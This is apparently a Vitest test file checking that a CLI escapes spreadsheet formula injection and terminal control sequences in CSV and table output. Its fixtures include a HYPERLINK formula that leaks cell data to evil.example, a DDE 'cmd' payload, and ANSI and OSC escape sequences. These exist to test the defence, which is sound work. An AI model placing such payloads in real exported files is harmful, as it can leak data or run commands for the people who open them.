import { describe, expect, it } from 'vitest';
import { alignColumns, toCsv } from '../../cli/columns.ts';
import { csvCell } from '../../cli/csv-cell.ts';

describe('CSV cells', () => {
  it.each([
    ['=HYPERLINK("http://evil.example?"&A1,"Click")', `"'=HYPERLINK(""http://evil.example?""&A1,""Click"")"`],
    ["+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
    ['＝1+1', "'＝1+1"],
  ])('neutralises a formula: %j', (hostile, written) => {
    // Act
    const cell = csvCell(hostile);

    // Assess
    expect(cell).toBe(written);
  });

  it('leaves ordinary text alone and quotes per RFC 4180', () => {
    // Assess
    expect(csvCell('Pakistan and US agree')).toBe('Pakistan and US agree');
    expect(csvCell('a, b')).toBe('"a, b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('1 = 1')).toBe('1 = 1');
  });

  it('writes a hostile row that opens as text and prints no escape sequence', () => {
    // Act
    const csv = toCsv(['title'], [['=cmd|\u001b[2J']]);

    // Assess
    expect(csv).toBe("title\r\n'=cmd|\\x1b[2J\r\n");
  });
});

describe('aligned columns', () => {
  it('shows controls in cells as escapes and keeps each row on one line', () => {
    // Act
    const table = alignColumns(['id', 'title'], [['a', '\u001b]0;owned\u0007line\nforged\u202E']]);

    // Assess
    expect(table.split('\n')).toEqual(['id  title', 'a   \\x1b]0;owned\\x07line\\x0aforged\\u202e']);
  });
});
